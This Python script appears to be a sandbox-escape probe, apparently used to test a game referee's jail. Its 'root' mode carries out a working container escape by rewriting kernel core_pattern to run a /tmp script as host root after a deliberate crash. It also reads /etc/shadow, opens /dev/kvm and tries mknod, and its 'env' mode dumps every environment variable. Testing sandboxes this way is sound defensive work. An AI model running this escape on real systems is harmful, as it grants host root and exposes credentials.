#!/usr/bin/env python3
"""cheater.py: the `root` and `env` modes of cheater.c, in Python (issue 48).

    cheater.py MODE [ARGS...] [-- PROGRAM [PROGRAM ARGS...]]

A Python player is the usual case of the referee's "root without
capabilities" fallback: its interpreter is found through a directory
closed to others (/root/.pyenv/shims, a mode-700 directory). The report
lines are cheater.c's, `@attack MODE: KEY: VALUE` on stderr, a failed
call as `KEY: ENAME (text)`; then PROGRAM, the honest player, replaces
this process (os.execv: the same pid). Standard library only.

Modes:
    root --marker PATH   take the machine's root through core_pattern,
                         then read what root can read, open devices
    env                  the environment, $HOME and $TMPDIR
"""

import errno
import os
import signal
import stat
import sys
import time

MODE = "cheater"
CORE_PATTERN = "/proc/sys/kernel/core_pattern"
PWN_SCRIPT = "/tmp/pwn.sh"


def shell_quote(s):
    """`s` as one shell word in single quotes (not shlex, which pulls in
    `re` and more: the fewer modules, the fewer files a sandboxed
    interpreter must reach)."""
    return "'" + s.replace("'", "'\\''") + "'"


def say(text):
    """One report line, in one write: helpers share the log pipe. A tab
    becomes a space, other control characters '?': one observation stays
    one line."""
    line = "@attack %s: %s" % (MODE, text)
    line = line.replace("\t", " ")
    line = "".join("?" if ord(c) < 0x20 or c == "\x7f" else c for c in line)
    try:
        os.write(2, (line + "\n").encode("utf-8", "replace"))
    except OSError:
        pass  # Nowhere left to report to: the attack goes on unseen.


def err_text(e):
    """`ENAME (text)` of an OSError, as cheater.c writes it."""
    name = errno.errorcode.get(e.errno, "E?")
    return "%s (%s)" % (name, os.strerror(e.errno))


def say_err(what, e):
    say("%s: %s" % (what, err_text(e)))


def read_text(path):
    with open(path, "rb") as f:
        return f.read().decode("utf-8", "replace")


def write_once(path, data):
    """Writes `data` in one write(2): a /proc/sys file takes its value
    from one write."""
    fd = os.open(path, os.O_WRONLY | os.O_CLOEXEC)
    try:
        os.write(fd, data.encode())
    finally:
        os.close(fd)


def list_dir(key, path):
    """`KEY: N entries: a b c`, sorted, cut with " ..." past a line."""
    try:
        names = sorted(os.listdir(path))
    except OSError as e:
        say_err(key, e)
        return
    line = ""
    for name in names:
        if len(line) + len(name) + 5 >= 3500:
            line += " ..."
            break
        line += " " + name
    say("%s: %d entries:%s" % (key, len(names), line))


def cap_eff():
    try:
        for line in read_text("/proc/self/status").splitlines():
            if line.startswith("CapEff:"):
                return line.split()[1]
    except OSError:
        pass
    return None


def describe(status):
    """How a child ended, in words."""
    if os.WIFSIGNALED(status):
        sig = os.WTERMSIG(status)
        core = " (core dumped)" if os.WCOREDUMP(status) else ""
        return "killed by %s%s" % (signal.Signals(sig).name, core)
    return "exited with status %d" % os.WEXITSTATUS(status)


def crash_through_core_pattern(marker, orig):
    """The core_pattern now pipes cores to /proc/%P/root/tmp/pwn.sh: the
    kernel runs it as the machine's root, with every capability, in the
    machine's namespaces, finding it through the crashing process's root
    (the jail's /tmp). It writes its capabilities into `marker`, on the
    machine's disk, and puts the pattern back; so does this process."""
    script = ("#!/bin/sh\ngrep CapEff /proc/self/status > %s\n"
              "printf '%%s\\n' %s > %s\n"
              % (shell_quote(marker), shell_quote(orig), CORE_PATTERN))
    try:
        fd = os.open(PWN_SCRIPT, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
        try:
            os.write(fd, script.encode())
        finally:
            os.close(fd)
        os.chmod(PWN_SCRIPT, 0o755)  # The umask may have taken bits off.
        say("script: OK (%s)" % PWN_SCRIPT)
        written = True
    except OSError as e:
        say_err("script", e)
        written = False

    if written:
        pid = os.fork()
        if pid == 0:
            os.abort()
        _, status = os.waitpid(pid, 0)
        say("crash: %s" % describe(status))
        deadline = time.monotonic() + 2
        while not os.path.exists(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        present = os.path.exists(marker)
        say("marker: %s" % ("present" if present else "absent"))
        if present:
            time.sleep(0.1)  # The script creates the file before grep writes.
            try:
                say("marker content: %s" % read_text(marker).rstrip("\n"))
            except OSError:
                pass

    try:
        write_once(CORE_PATTERN, orig)
        say("core_pattern restore: OK")
    except OSError as e:
        say_err("core_pattern restore", e)
    try:
        os.unlink(PWN_SCRIPT)
    except OSError:
        pass


def mode_root(args):
    if "--marker" not in args or args.index("--marker") + 1 >= len(args):
        sys.stderr.write("usage: cheater.py root --marker PATH [-- PROGRAM...]\n")
        return 2
    marker = args[args.index("--marker") + 1]

    say("uid: %d euid: %d" % (os.getuid(), os.geteuid()))
    say("capeff: %s" % (cap_eff() or "unknown"))
    try:
        orig = read_text(CORE_PATTERN).rstrip("\n")
        say("core_pattern: %s" % orig)
    except OSError as e:
        # Unread (a /proc without /proc/sys): should the write go through
        # anyway, the kernel's default is what is put back.
        say_err("core_pattern read", e)
        orig = "core"
    try:
        write_once(CORE_PATTERN, "|/proc/%%P/root%s %%P" % PWN_SCRIPT)
    except OSError as e:
        say_err("core_pattern write", e)
    else:
        say("core_pattern write: OK")
        crash_through_core_pattern(marker, orig)

    try:
        with open("/etc/shadow", "rb") as f:
            say("shadow: read %d bytes" % len(f.read(65536)))
    except OSError as e:
        say_err("shadow", e)

    list_dir("root dir", "/root")

    try:
        os.close(os.open("/dev/kvm", os.O_RDWR | os.O_CLOEXEC))
        say("kvm: OK")
    except OSError as e:
        say_err("kvm", e)

    # /dev/null's numbers: a node that opens means the mount lets devices
    # through (no nodev).
    node = "/tmp/cheater-null-%d" % os.getpid()
    try:
        os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(1, 3))
    except OSError as e:
        say_err("mknod", e)
    else:
        say("mknod: OK (%s)" % node)
        try:
            os.close(os.open(node, os.O_RDWR | os.O_CLOEXEC))
            say("mknod open: OK")
        except OSError as e:
            say_err("mknod open", e)
        os.unlink(node)

    list_dir("dev", "/dev")
    list_dir("sys cgroup", "/sys/fs/cgroup")
    return 0


def writable(key, var):
    """Whether the directory named by `var` takes a new file."""
    d = os.environ.get(var)
    if d is None:
        say("%s: unset" % key)
        return
    path = os.path.join(d, ".cheater-%d" % os.getpid())
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    except OSError as e:
        name = errno.errorcode.get(e.errno, "E?")
        say("%s: %s writable: no (%s: %s)" % (key, d, name, os.strerror(e.errno)))
        return
    os.unlink(path)
    say("%s: %s writable: yes" % (key, d))


def mode_env(args):
    # As bytes: a variable need not be UTF-8.
    for name, value in os.environb.items():
        say("env: %s=%s" % (name.decode("utf-8", "replace"),
                            value.decode("utf-8", "replace")))
    writable("home", "HOME")
    writable("tmpdir", "TMPDIR")
    return 0


MODES = {"root": mode_root, "env": mode_env}


def main():
    argv = sys.argv[1:]
    if not argv or argv[0] not in MODES:
        sys.stderr.write("usage: cheater.py MODE [ARGS...] [-- PROGRAM [ARGS...]]\n"
                         "modes: %s\n" % " ".join(MODES))
        return 2
    global MODE
    MODE = argv[0]
    rest = argv[1:]
    dashes = rest.index("--") if "--" in rest else len(rest)
    r = MODES[MODE](rest[:dashes])
    program = rest[dashes + 1:]
    if r or not program:
        return r
    # The honest player goes on as this very process: the pid the referee
    # watches.
    sys.stderr.flush()
    try:
        os.execv(program[0], program)
    except OSError as e:
        say_err("exec", e)
    return 127


if __name__ == "__main__":
    sys.exit(main())
